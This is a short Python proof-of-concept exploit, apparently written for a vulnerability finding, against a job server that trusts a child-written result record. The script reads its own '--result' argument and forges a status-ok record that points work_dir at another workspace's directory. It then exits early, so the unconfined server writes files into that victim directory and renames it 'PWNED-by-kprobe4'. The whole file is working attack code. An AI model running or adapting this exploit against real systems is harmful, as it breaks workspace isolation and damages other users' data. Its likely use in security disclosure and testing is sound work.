"""V1: the command writes the record its child would write (status ok) naming ANOTHER directory as
the run's work_dir — here another workspace's finished profile — and exits before the child does.
The unconfined server then loads that directory's result.json, writes result.json, report.md,
contract.md and command.log into it and renames it. Usage: python forge_record.py VICTIM_DIR"""
import json
import os
import sys
from pathlib import Path

argv = open("/proc/self/cmdline", "rb").read().split(b"\0")
result = Path(argv[argv.index(b"--result") + 1].decode())
victim = Path(sys.argv[1])
result.write_text(json.dumps({"status": "ok", "work_dir": str(victim),
                              "profile_dir": str(victim.parent / "PWNED-by-kprobe4")}))
print("KPROBE4 forged record at", result, "->", victim, flush=True)
os._exit(0)
